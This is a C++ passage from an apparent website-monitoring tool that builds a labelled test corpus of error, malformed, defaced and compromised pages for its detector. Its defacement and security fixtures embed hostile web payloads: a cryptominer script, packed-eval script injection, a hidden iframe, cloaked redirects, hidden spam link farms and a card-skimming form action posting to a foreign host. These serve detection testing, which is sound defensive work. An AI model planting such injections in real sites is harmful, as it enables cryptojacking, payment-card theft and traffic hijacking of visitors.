        {"SPAM_TITLE", "ブランドコピー 激安通販 スーパーコピー N級品 専門店"},
    };
    auto file = [&](std::string_view path) { return fill(lib.file(path), page_vars, path); };
    auto add = [&](Condition expected, std::string name, std::string html) {
        CorpusPage p;
        p.name = std::string(to_string(expected)) + "/" + std::move(name);
        p.html = std::move(html);
        p.expected = expected;
        out.push_back(std::move(p));
        return &out.back();
    };
    using C = Condition;

    // --- error: the application or server shows an error instead of the page (HTTP 200)
    add(C::error, "wordpress-critical-error", file("errors/wp_critical_error.html"));
    add(C::error, "wordpress-critical-error-older-wording",
        file("errors/wp_critical_error_5x.html"));
    add(C::error, "wordpress-database-connection-error", file("errors/wp_database_error.html"));
    add(C::error, "php-fatal-error-alone", file("errors/php_fatal_error.txt"));
    add(C::error, "php-parse-error-alone", file("errors/php_parse_error.txt"));
    {
        // PHP stops at a fatal error: the theme's output so far, then the message, no more.
        std::string html = fresh();
        html.resize(html.size() * 55 / 100);
        html += file("errors/php_fatal_in_theme.txt");
        add(C::error, "php-fatal-error-inside-theme", std::move(html));
    }
    {
        std::string html = file("errors/php_fatal_error.txt") + fresh();
        add(C::error, "php-fatal-error-before-theme", std::move(html));
    }
    add(C::error, "drupal-unexpected-error", file("errors/drupal_error.html"));
    add(C::error, "joomla-site-offline", file("errors/joomla_offline.html"));
    add(C::error, "joomla-error-page", file("errors/joomla_error.html"));
    add(C::error, "laravel-whoops", file("errors/laravel_whoops.html"));
    add(C::error, "laravel-ignition-debug-page", file("errors/laravel_ignition.html"));
    add(C::error, "django-debug-traceback", file("errors/django_debug.html"));
    add(C::error, "rails-something-went-wrong", file("errors/rails_500.html"));
    add(C::error, "aspnet-yellow-screen", file("errors/aspnet_ysod.html"));
    add(C::error, "nginx-502-served-with-200", file("errors/nginx_502.html"));
    add(C::error, "apache-500-served-with-200", file("errors/apache_500.html"));
    add(C::error, "cloudflare-502-served-with-200", file("errors/cloudflare_502.html"));
    add(C::error, "hosting-account-suspended", file("errors/hosting_suspended.html"));

    // --- down: the CDN answers for an origin it cannot reach
    add(C::down, "cloudflare-521-origin-down-served-with-200", file("errors/cloudflare_521.html"));

    // --- malformed: blank, cut off, stock pages, raw templates, collapsed
    add(C::malformed, "empty-body", "");
    add(C::malformed, "whitespace-only-body", "\n\n   \r\n\t\n   \n");
    add(C::malformed, "empty-html-document", "<html><body></body></html>");
    add(C::malformed, "empty-document-with-head",
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title></title>\n"
        "</head>\n<body>\n</body>\n</html>\n");
    {
        std::string html = fresh();
        html.resize(html.size() * 45 / 100);
        add(C::malformed, "truncated-mid-page", std::move(html));
    }
    {
        std::string html = fresh();
        html.resize(400);
        add(C::malformed, "truncated-to-first-400-bytes", std::move(html));
    }
    add(C::malformed, "nginx-welcome-page", file("errors/nginx_welcome.html"));
    add(C::malformed, "apache-debian-default-page", file("errors/apache_debian_default.html"));
    add(C::malformed, "apache-it-works", file("errors/apache_it_works.html"));
    add(C::malformed, "iis-welcome-page", file("errors/iis_welcome.html"));
    add(C::malformed, "unrendered-template-tags", fresh({.raw_templates = true}));
    add(C::malformed, "coming-soon-one-liner", file("errors/coming_soon.html"));
    {
        // The theme renders its header and footer but the content area comes out empty.
        std::string html = fresh();
        replace_inner(html, "main", "\n");
        add(C::malformed, "main-content-missing", std::move(html));
    }

    // --- defaced: notify pages, phrases in the real page, spam, injected code, redirects
    add(C::defaced, "notify-page-english", file("attacks/notify_en.html"));
    {
        std::string html = fresh();
        const std::string title = trim(inner(html, "title"));
        replace_inner(html, "title", "Hacked By Mr.Ph4nt0m &#8211; " + title);
        replace_inner(html, "h1", "Hacked By Mr.Ph4nt0m &mdash; Ghost Cyber Team was here");
        add(C::defaced, "phrase-in-real-title-and-h1", std::move(html));
    }
    {
        std::string html = fresh();
        replace_inner(html, "h1", "Hacked by Mr.Ph4nt0m");
        add(C::defaced, "phrase-in-real-h1-only", std::move(html));
    }
    add(C::defaced, "notify-page-indonesian", file("attacks/notify_id.html"));
    add(C::defaced, "notify-page-turkish", file("attacks/notify_tr.html"));
    add(C::defaced, "notify-page-portuguese", file("attacks/notify_pt.html"));
    add(C::defaced, "notify-page-russian", file("attacks/notify_ru.html"));
    add(C::defaced, "notify-page-arabic", file("attacks/notify_ar.html"));
    {
        std::string html = fresh();
        insert_before_last(html, "</footer>",
                           link_farm("<div class=\"footer-partners\" style=\"display:none\">",
                                     kPharmaAnchors, kPharmaHosts));
        add(C::defaced, "pharma-hidden-link-farm-in-footer", std::move(html));
    }
    {
        std::string html = fresh();
        insert_before_last(html, "</footer>",
                           link_farm("<div style=\"position:absolute;left:-9999px;top:-9999px\">",
                                     kCasinoAnchors, kCasinoHosts));
        add(C::defaced, "casino-offscreen-link-farm-in-footer", std::move(html));
    }
    {
        std::string html = fresh();
        replace_inner(html, "title", page_vars.at("SPAM_TITLE"));
        replace_inner(html, "main", "\n" + file("attacks/japanese_spam_block.html"));
        add(C::defaced, "japanese-keyword-spam", std::move(html));
    }
    {
        std::string html = fresh();
        insert_before_last(
            html, "</body>",
            "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n<script>var "
            "miner = new CoinHive.Anonymous('nP4lM2xQvR8sK1wZyT6uJ3eHgF5dC9bA', {throttle: "
            "0.3});miner.start();</script>\n");
        add(C::defaced, "crypto-miner-script", std::move(html));
    }
    {
        std::string html = fresh();
        insert_before_last(
            html, "</body>",
            "<script>eval(function(p,a,c,k,e,d){e=function(c){return "
            "c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c."
            "toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c-"
            "-){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return "
            "p}('3 0=4.5(\\'6\\');0.7=\\'8://9.a/b.c\\';4.d.e(0);',15,15,'s||||var|document|"
            "createElement|script|src|https|jquery-cdn|su|js|head|appendChild'.split('|'),0,{}))"
            "</script>\n");
        add(C::defaced, "packed-eval-script", std::move(html));
    }
    {
        std::string html = fresh();
        insert_after_open(html, "<body",
                          "\n<iframe src=\"https://traffic-dist.club/in.php?id=4471\" width=\"1\" "
                          "height=\"1\" style=\"visibility:hidden;position:absolute;left:0;top:0\" "
                          "frameborder=\"0\"></iframe>");
        add(C::defaced, "iframe-from-unknown-host", std::move(html));
    }
    {
        std::string html = fresh();
        insert_after_open(html, "<head",
                          "\n<meta http-equiv=\"refresh\" "
                          "content=\"0;url=https://rx-bestprice-store.top/?ref=" +
                              std::string(def.account) + "\">");
        add(C::defaced, "meta-refresh-to-foreign-host", std::move(html));
    }
    {
        std::string html = fresh();
        insert_after_open(html, "<head",
                          "\n<script type=\"text/javascript\">if(navigator.userAgent.indexOf("
                          "'bot')<0){window.location.href=\"https://sweep-prize-center.top/"
                          "claim/?src=" +
                              std::string(def.account) + "\";}</script>");
        add(C::defaced, "javascript-redirect-to-foreign-host", std::move(html));
    }
    {
        std::string html = fresh();
        replace_inner(
            html, "title",
            "Rolex Replica Watches Sale Online &#8211; Swiss AAA Quality | Free Shipping");
        add(C::defaced, "title-replaced-by-unrelated-spam", std::move(html));
    }
    {
        CorpusPage* p = add(
            C::defaced, "redirected-to-foreign-domain",
            "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Best "
            "Price Pharmacy &#8211; Online Drugstore</title>\n</head>\n<body>\n<h1>Best Price "
            "Pharmacy</h1>\n<p>Top quality generic medications. Worldwide shipping. Bonus pills "
            "with every order.</p>\n<ul>\n<li><a href=\"/viagra\">Buy Viagra online</a></li>\n"
            "<li><a href=\"/cialis\">Cialis 20mg</a></li>\n<li><a "
            "href=\"/levitra\">Levitra</a></li>\n</ul>\n<form action=\"/search\"><input "
            "name=\"q\"></form>\n</body>\n</html>\n");
        p->final_url = "https://rx-bestprice-store.top/?ref=" + std::string(def.account);
    }

    // --- security: skimmers, exposed listings and source
    {
        std::string html = fresh();
        insert_before_last(html, "</body>",
                           "<script src=\"https://cdn-js-metrics.top/analytics.js\" "
                           "async></script>\n");
        add(C::security, "magecart-script-from-unknown-host", std::move(html));
    }
    {
        std::string html = fresh();
        replace_once(html, "action=\"" + std::string(def.form_action) + "\"",
                     "action=\"https://secure-checkout-verify.top/collect.php\"");
        add(C::security, "skimmer-form-action-to-foreign-host", std::move(html));
    }
    add(C::security, "directory-listing", file("errors/directory_listing.html"));
    add(C::security, "raw-php-source-index", file("errors/raw_php_source.php"));
    add(C::security, "raw-php-source-with-credentials", file("errors/raw_php_config.php"));
    return out;
}

}  // namespace

std::vector<CorpusSite> load_corpus(const std::string& corpus_dir) {
    auto lib = read_library(corpus_dir);
    std::vector<CorpusSite> sites;
    for (const auto& def : kSites) {
        CorpusSite site;
        site.name = def.name;
        site.url = def.url;
        site.library = lib;
        // Learning loads cycle through the A/B variants and every host of the fixed ad
        // rotation, as a baseline does in its first hour of real fetches.
        for (int i = 0; i < kLearningLoads; ++i) {
            CorpusPage p;
            p.name = strf("learning/load-%02d", i + 1);
            p.html = def.render(*lib, def.seed_base + 100 + uint64_t(i),
                                {.variant = i % 2, .ad = i % kAdHosts});
            site.learning.push_back(std::move(p));
        }
        site.cases = benign_cases(*lib, def);
        auto bad = malicious_cases(*lib, def);
        site.cases.insert(site.cases.end(), std::make_move_iterator(bad.begin()),
                          std::make_move_iterator(bad.end()));
        sites.push_back(std::move(site));
    }
    return sites;
}

TimePoint load_time(int n) { return TimePoint{std::chrono::seconds{1'795'507'200 + n * 300}}; }

Response response_for(const CorpusSite& s, const CorpusPage& page) {
    Response r;
    r.url = s.url;
    r.final_url = page.final_url.empty() ? s.url : page.final_url;
    if (!page.final_url.empty()) r.redirects.push_back({s.url, 302, page.final_url});
    r.http_status = 200;
    r.http_version = 20;
    r.total_seconds = 0.18;
    r.headers = {{"content-type", page.content_type}, {"server", "nginx"}};
    r.body = page.html;
    r.wire_bytes = page.html.size();
    return r;
}

}  // namespace sitewatch::corpus
